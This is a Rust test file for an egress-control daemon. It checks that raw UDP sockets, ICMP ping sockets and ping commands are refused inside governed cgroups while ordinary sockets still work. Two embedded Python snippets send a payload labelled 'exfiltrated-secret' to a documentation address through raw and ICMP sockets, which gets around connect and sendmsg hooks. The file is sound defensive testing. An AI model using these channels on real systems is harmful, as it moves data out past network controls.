//! Raw, ICMP and other non-TCP/UDP sockets never pass the connect and
//! sendmsg hooks: a raw socket writes whole packets to any address. Only
//! TCP stream and UDP datagram sockets may be created in governed cgroups. Each attack first succeeds ungoverned (so
//! the listener is known to see it), then fails governed.

use egress_tests::{egressd::exec, listen::Listener, netns::Netns, require_root};

/// Sends one UDP datagram to 203.0.113.9:9 through a raw socket, writing
/// the UDP header itself, as a tool with CAP_NET_RAW can.
const RAW_UDP: &str = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
payload = b"exfiltrated-secret"
s.sendto(struct.pack("!HHHH", 40000, 9, 8 + len(payload), 0) + payload, ("203.0.113.9", 0))
print("sent")
"#;

/// An ICMP "ping" datagram socket (allowed by ping_group_range below).
const PING_SOCKET: &str = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"exfiltrated-secret", ("203.0.113.9", 0))
print("sent")
"#;

fn ns_with_ping_sockets() -> Netns {
    let ns = Netns::new("raw").unwrap();
    let ok = ns
        .command("sysctl")
        .args(["-q", "-w", "net.ipv4.ping_group_range=0 0"])
        .status()
        .unwrap()
        .success();
    assert!(ok, "could not allow ping sockets in the test namespace");
    ns
}

#[test]
fn ping_is_refused() {
    require_root();
    let ns = ns_with_ping_sockets();
    let echo = Listener::icmp_echo(&ns, "203.0.113.9").unwrap();
    let ungoverned = ns
        .command("ping")
        .args(["-c", "1", "-W", "1", "203.0.113.9"])
        .output()
        .unwrap();
    assert!(
        ungoverned.status.success(),
        "ping does not work even ungoverned"
    );
    assert!(echo.count() >= 1, "the ICMP listener does not see pings");
    let before = echo.count();

    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443"],
        &["ping", "-c", "1", "-W", "1", "203.0.113.9"],
    )
    .unwrap();
    assert_ne!(
        r.code,
        Some(0),
        "ping succeeded under egressd: {}",
        r.stderr
    );
    assert_eq!(
        echo.count(),
        before,
        "an echo request left the governed cgroup"
    );
    assert!(
        r.events
            .iter()
            .all(|e| e["reason"] == "socket_not_allowed" && e["hook"] == "sock_create"),
        "{:?}",
        r.events
    );
    assert!(!r.events.is_empty());
    assert!(
        r.stderr.contains("(socket refused) by ping"),
        "{}",
        r.stderr
    );
}

#[test]
fn raw_udp_sender_is_refused() {
    require_root();
    let ns = Netns::new("rawudp").unwrap();
    let target = Listener::udp(&ns, "203.0.113.9:9").unwrap();
    let ungoverned = ns
        .command("python3")
        .args(["-c", RAW_UDP])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&ungoverned.stdout).trim(), "sent");
    assert_eq!(
        target.count(),
        1,
        "the UDP listener does not see raw datagrams"
    );

    let r = exec(
        &ns,
        &["--allow", "203.0.113.9:9/udp"],
        &["python3", "-c", RAW_UDP],
    )
    .unwrap();
    assert!(
        r.stderr.contains("PermissionError"),
        "raw socket not refused: {} {}",
        r.stdout,
        r.stderr
    );
    assert_eq!(target.count(), 1, "a raw datagram left the governed cgroup");
    assert_eq!(r.events[0]["reason"], "socket_not_allowed");
    assert_eq!(r.events[0]["daddr"], serde_json::Value::Null);
}

#[test]
fn icmp_datagram_socket_is_refused() {
    require_root();
    let ns = ns_with_ping_sockets();
    let echo = Listener::icmp_echo(&ns, "203.0.113.9").unwrap();
    let ungoverned = ns
        .command("python3")
        .args(["-c", PING_SOCKET])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&ungoverned.stdout).trim(),
        "sent",
        "{ungoverned:?}"
    );
    assert_eq!(echo.count(), 1);

    let r = exec(&ns, &[], &["python3", "-c", PING_SOCKET]).unwrap();
    assert!(
        r.stderr.contains("PermissionError"),
        "ICMP socket not refused: {}",
        r.stderr
    );
    assert_eq!(echo.count(), 1, "an echo request left the governed cgroup");
    assert_eq!(r.events[0]["protocol"], "icmp");
}

#[test]
fn ordinary_sockets_are_still_created() {
    require_root();
    let ns = Netns::new("plain").unwrap();
    let r = exec(
        &ns,
        &[],
        &["python3", "-c", "import socket\nfor f in (socket.AF_INET, socket.AF_INET6):\n  for t in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    socket.socket(f, t)\nprint('made')"],
    )
    .unwrap();
    assert_eq!(r.stdout.trim(), "made", "{}", r.stderr);
}
